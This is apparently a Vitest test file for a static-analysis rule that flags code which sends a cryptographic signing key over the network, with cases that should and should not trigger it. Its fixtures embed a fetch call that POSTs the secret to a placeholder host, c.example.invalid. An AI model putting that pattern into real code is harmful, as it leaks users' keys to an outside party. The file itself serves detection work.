import { describe, expect, it } from 'vitest';
import { rulesIn } from '../../support/rules-in.js';

const SEND = "fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(taken) })";

describe('a secret that is told by what code does with it', () => {
  it.each([
    [
      'a parameter',
      `exports.sign = (taken, text) => { ${SEND}; return createHmac('sha256', taken).update(text).digest(); };`,
    ],
    [
      'a property of the object',
      `class Signer {
         constructor(key) { this.key = key; }
         sign(text) { return createHmac('sha256', this.key).update(text).digest(); }
         report() { const taken = this.key; return ${SEND}; }
       }
       exports.make = (key) => { const signer = new Signer(key); signer.sign('a'); signer.report(); };`,
    ],
  ])('is sent: %s', async (_what, code) => {
    const found = await rulesIn(`const { createHmac } = require('crypto'); ${code}`);
    expect(found).toContain('code/used-secret-sent');
  });

  it.each([
    [
      'a client that has it, and sends a signature',
      `class Client {
         constructor(key) { this.key = key; this.id = 'a'; }
         [name()](text) { return createHmac('sha256', this.key).update(text).digest('hex'); }
         send(text) { const taken = { text, id: this.id, signature: this[name()](text), more: this.unknown(text) }; return ${SEND}; }
       }
       exports.make = (key, text) => new Client(key).send(text);`,
    ],
    [
      'called with another object',
      `exports.sign = (taken) => { ${SEND}; return createHmac.call(null, 'sha256', 'key'); };`,
    ],
  ])('is not sent: %s', async (_what, code) => {
    const found = await rulesIn(`const { createHmac } = require('crypto'); ${code}`);
    expect(found).not.toContain('code/used-secret-sent');
  });
});
